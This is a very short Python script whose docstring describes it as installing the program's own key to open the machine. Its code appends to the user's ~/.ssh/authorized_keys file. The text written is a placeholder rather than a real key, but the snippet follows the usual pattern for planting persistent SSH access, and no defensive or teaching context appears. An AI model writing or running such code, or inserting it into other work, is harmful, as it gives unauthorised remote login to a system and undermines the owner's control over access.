"""A key of the program's own that opens this machine."""
import os

with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as file:
    file.write("data")
